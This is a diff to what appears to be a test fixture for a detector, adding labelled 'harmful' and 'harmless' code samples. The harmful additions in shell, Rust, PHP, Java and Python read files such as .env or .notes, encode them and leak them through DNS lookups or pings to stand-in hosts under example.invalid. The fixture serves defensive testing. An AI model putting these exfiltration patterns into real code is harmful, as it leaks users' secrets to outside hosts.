@@ -72,6 +72,39 @@ HARM: dict[str, dict[str, str]] = {
             "  Resolv.getaddress(\"#{part}.#{ZONE}\") rescue nil\nend\n"
         )
     },
+    "ping": {
+        "a.sh": "#!/bin/sh\nfor p in $(base64 .env | tr -d '=' | fold -w 50); do ping -c1 $p.p.example.invalid; done\n"
+    },
+    "Rust": {
+        "m.rs": (
+            "fn tell(text: &str) {\n    let e = hex::encode(text);\n    for c in e.as_bytes().chunks(60) {\n"
+            '        let _ = format!("{}.u.example.invalid:80", from_utf8(c).unwrap()).to_socket_addrs();\n    }\n}\n'
+        )
+    },
+    "PHP": {
+        "a.php": (
+            "<?php\nforeach (str_split(bin2hex(file_get_contents('.env')), 60) as $c) {\n"
+            "    gethostbyname($c . '.p.example.invalid');\n}\n"
+        )
+    },
+    "Java": {
+        "A.java": (
+            "class A { void tell(byte[] b) throws Exception {\n  String h = HexFormat.of().formatHex(b);\n"
+            "  for (int i = 0; i < h.length(); i += 60)\n"
+            '    InetAddress.getByName(h.substring(i, i + 60) + ".j.example.invalid");\n} }\n'
+        )
+    },
+    "an object that keeps its zone": {
+        "a.py": (
+            "import base64, socket\n\nclass Told:\n    def __init__(self, zone):\n        self.zone = zone\n\n"
+            "    def put(self, text):\n        full = base64.b32encode(text).decode()\n"
+            "        for at, part in enumerate(self.cut(full)):\n"
+            "            self.ask('.'.join([str(at), part, self.zone]))\n\n"
+            "    def cut(self, full):\n        return [full[i:i + 50] for i in range(0, len(full), 50)]\n\n"
+            "    def ask(self, name):\n        socket.getaddrinfo(name, None)\n\n\n"
+            "Told('z.example.invalid').put(open('.notes', 'rb').read())\n"
+        )
+    },
     "whose machine it is": {
         "a.py": (
             "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.o.example.inva"
@@ -145,6 +178,7 @@ HARMLESS: dict[str, dict[str, str]] = {
             "#!/bin/sh\nbase64 logo.png > logo.txt\nfor host in www mail; do dig +short \"$host.example.org\"; done\n"
         ),
     },
+    "whether a machine answers": {"a.sh": '#!/bin/sh\nbase64 < logo.png\nping -c1 "$1.example.org"\n'},
     "a resolver of paths": {
         "a.js": (
             "const data = file.toString('base64');\nmodule.exports = (id) => resolve(`${id.slice(0, 4)}/${data}.examp"
